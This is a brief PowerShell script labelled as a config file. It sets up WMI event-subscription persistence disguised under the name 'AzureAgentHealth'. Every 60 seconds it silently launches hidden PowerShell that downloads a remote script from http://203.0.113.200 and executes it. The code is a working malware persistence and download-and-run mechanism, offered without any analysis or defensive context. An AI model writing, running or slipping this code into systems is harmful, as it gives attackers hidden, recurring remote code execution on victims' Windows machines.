# config 1311 v1
$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name='AzureAgentHealth';EventNameSpace='root\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='AzureAgentHealth';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/inv.ps1')"}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$filter;Consumer=$consumer}
